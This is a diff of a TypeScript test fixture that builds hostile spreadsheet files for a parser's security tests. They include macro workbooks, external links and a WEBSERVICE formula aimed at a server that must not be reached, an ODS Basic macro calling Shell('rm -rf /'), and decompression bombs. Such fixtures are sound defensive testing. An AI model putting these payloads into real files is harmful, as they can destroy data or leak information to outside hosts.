@@ -123,6 +123,7 @@ function binarySheet(): Buffer {
   return binaryRecords([129], ...cells, [130])
 }
 
+const PLAIN_ROW = `<row>${cell('Köln')}<c><v>5</v></c></row>`
 const MACRO: ZipEntry = { name: 'xl/vbaProject.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }
 
 /** A part that refers to another workbook. */
@@ -136,16 +137,25 @@ function externalLink(address: string): ZipEntry[] {
   ]
 }
 
+/** A workbook with a macro and one row. */
+export function macroWorkbook(): Buffer {
+  return xlsx(sheetOf(PLAIN_ROW), [MACRO])
+}
+
+/** The same as XLSB, which also links to another workbook at the address. */
+export function binaryMacroWorkbook(address: string): Buffer {
+  return xlsb(binarySheet(), [MACRO, ...externalLink(address)])
+}
+
 /** All of them. `address` is a server that must not be reached. */
 export function hostileWorkbooks(address: string): HostileWorkbook[] {
-  const plain = `<row>${cell('Köln')}<c><v>5</v></c></row>`
   const linked = `<row>${cell('Köln')}<c><f>[1]Data!A1+WEBSERVICE("${address}/x")</f><v>5</v></c></row>`
   const basic = { name: 'Basic/Standard/Module1.xml', content: '<script:module>Shell("rm -rf /")</script:module>' }
   const source = `<table:table-source xlink:href="${address}/other.ods" table:table-name="Data"/>`
   const wide = '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
   const many = `<table:table-row table:number-rows-repeated="1048576">${wide}</table:table-row>`
   return [
-    { name: 'macro.xlsm', content: xlsx(sheetOf(plain), [MACRO]), expected: ROW },
+    { name: 'macro.xlsm', content: macroWorkbook(), expected: ROW },
     { name: 'links.xlsx', content: xlsx(sheetOf(linked), externalLink(address)), expected: ROW },
     {
       name: 'entities.xlsx',
@@ -164,7 +174,7 @@ export function hostileWorkbooks(address: string): HostileWorkbook[] {
     { name: 'bomb.ods', content: ods(ODS_ROW, { blocks: BOMB_BLOCKS }), expected: TOO_LARGE },
     { name: 'lying.ods', content: ods(ODS_ROW, { blocks: BOMB_BLOCKS, declares: 5_000 }), expected: DAMAGED },
     { name: 'repeated.ods', content: ods(many), expected: DAMAGED },
-    { name: 'macro.xlsb', content: xlsb(binarySheet(), [MACRO, ...externalLink(address)]), expected: ROW },
+    { name: 'macro.xlsb', content: binaryMacroWorkbook(address), expected: ROW },
     {
       name: 'bomb.xlsb',
       content: xlsb({ start: '', block: '\0'.repeat(MEBIBYTE), times: BOMB_BLOCKS, end: '' }),
